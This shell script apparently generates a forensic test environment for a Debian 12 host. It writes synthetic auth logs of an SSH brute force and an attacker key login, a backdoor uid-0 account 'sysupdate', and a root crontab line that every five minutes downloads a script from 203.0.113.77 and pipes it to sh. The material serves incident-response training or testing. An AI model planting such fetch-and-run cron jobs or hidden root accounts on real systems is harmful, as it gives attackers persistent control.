#!/bin/sh
# Debian 12: rsyslog's RFC 3339 times in auth.log, auth.log.1 and a rotated auth.log.2.gz
# holding a brute force ("message repeated N times" included); the attacker logs in with
# a key to the sudo user, adds a uid-0 account and a cron downloader. Zone Europe/Berlin.
set -e
root=$1
mkdir -p "$root/etc" "$root/var/log" "$root/var/spool/cron/crontabs" "$root/home/debian" "$root/root"
cp /usr/share/zoneinfo/Europe/Berlin "$root/etc/localtime"
cat >"$root/etc/passwd" <<'P'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
debian:x:1000:1000:Debian:/home/debian:/bin/bash
sysupdate:x:0:0::/root:/bin/bash
P
cat >"$root/etc/shadow" <<'P'
root:$6$Zx$abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789./abcdefghijklmnopqrstuvwxy:19700:0:99999:7:::
daemon:*:19700:0:99999:7:::
www-data:*:19700:0:99999:7:::
debian:$6$Qy$abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789./abcdefghijklmnopqrstuvwxy:19700:0:99999:7:::
sysupdate:$6$Ab$abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789./abcdefghijklmnopqrstuvwxy:19768:0:99999:7:::
P
echo '*/5 * * * * curl -fsSL http://203.0.113.77/ldr.sh | sh' >"$root/var/spool/cron/crontabs/root"
python3 - "$root" <<'PY'
import gzip, sys
root = sys.argv[1]
H = "deb12"
def L(t, prog, msg):
    return "%s %s %s: %s\n" % (t, H, prog, msg)
# auth.log.2.gz: 2024-02-01 .. 02-07, a brute force on root
b = []
for i in range(30):
    t = "2024-02-03T02:%02d:%02d.%06d+01:00" % (i, i, i * 1000)
    b.append(L(t, "sshd[%d]" % (2000 + i), "Failed password for root from 45.95.147.10 port %d ssh2" % (40000 + i)))
    b.append(L(t, "sshd[%d]" % (2000 + i), "Connection closed by authenticating user root 45.95.147.10 port %d [preauth]" % (40000 + i)))
b.append(L("2024-02-03T02:31:00.000001+01:00", "sshd[2100]", "message repeated 5 times: [ Failed password for root from 45.95.147.10 port 40100 ssh2]"))
for i in range(6):
    t = "2024-02-05T11:00:%02d.5+01:00" % i
    b.append(L(t, "sshd[%d]" % (3000 + i), "Invalid user test%d from 193.32.162.5 port %d" % (i, 4000 + i)))
    b.append(L(t, "sshd[%d]" % (3000 + i), "Failed password for invalid user test%d from 193.32.162.5 port %d ssh2" % (i, 4000 + i)))
    b.append(L(t, "sshd[%d]" % (3000 + i), "Disconnected from invalid user test%d 193.32.162.5 port %d [preauth]" % (i, 4000 + i)))
b.append(L("2024-02-06T06:25:01.123+01:00", "CRON[4001]", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"))
with gzip.open(root + "/var/log/auth.log.2.gz", "wt") as f:
    f.writelines(b)
# auth.log.1: the administrator's usual logins
a1 = []
for d in range(8, 15):
    a1.append(L("2024-02-%02dT09:00:12.000000+01:00" % d, "sshd[%d]" % (5000 + d), "Accepted publickey for debian from 10.0.0.5 port 5%d ssh2: ED25519 SHA256:AdminKeyAdminKeyAdminKeyAdminKeyAdminKey123" % d))
    a1.append(L("2024-02-%02dT09:00:12.000000+01:00" % d, "systemd-logind[400]", "New session %d of user debian." % d))
with open(root + "/var/log/auth.log.1", "w") as f:
    f.writelines(a1)
# auth.log: the attacker's key login, sudo, the new account
a = [
    L("2024-02-15T03:12:44.512301+01:00", "sshd[7001]", "Accepted publickey for debian from 203.0.113.77 port 51234 ssh2: ED25519 SHA256:Att4ckerKeyAtt4ckerKeyAtt4ckerKeyAtt4cker99"),
    L("2024-02-15T03:12:44.600000+01:00", "sshd[7001]", "pam_unix(sshd:session): session opened for user debian(uid=1000) by (uid=0)"),
    L("2024-02-15T03:13:02.000000+01:00", "sudo", "  debian : TTY=pts/0 ; PWD=/home/debian ; USER=root ; COMMAND=/usr/bin/bash"),
    L("2024-02-15T03:13:30.100000+01:00", "useradd[7050]", "new user: name=sysupdate, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0"),
    L("2024-02-15T03:13:31.100000+01:00", "chpasswd[7051]", "pam_unix(chpasswd:chauthtok): password changed for sysupdate"),
    L("2024-02-15T03:20:00.000000+01:00", "sshd[7001]", "Disconnected from user debian 203.0.113.77 port 51234"),
    L("2024-02-15T09:00:12.000000+01:00", "sshd[7100]", "Accepted publickey for debian from 10.0.0.5 port 5999 ssh2: ED25519 SHA256:AdminKeyAdminKeyAdminKeyAdminKeyAdminKey123"),
]
with open(root + "/var/log/auth.log", "w") as f:
    f.writelines(a)
PY
t() { touch -d "$1" "$root/$2"; }
t "2024-02-07 06:25:02 +0100" var/log/auth.log.2.gz
t "2024-02-14 09:10:00 +0100" var/log/auth.log.1
t "2024-02-15 09:00:13 +0100" var/log/auth.log
t "2024-02-15 03:13:30 +0100" etc/passwd
t "2024-02-15 03:13:31 +0100" etc/shadow
t "2024-02-15 03:14:10 +0100" var/spool/cron/crontabs/root
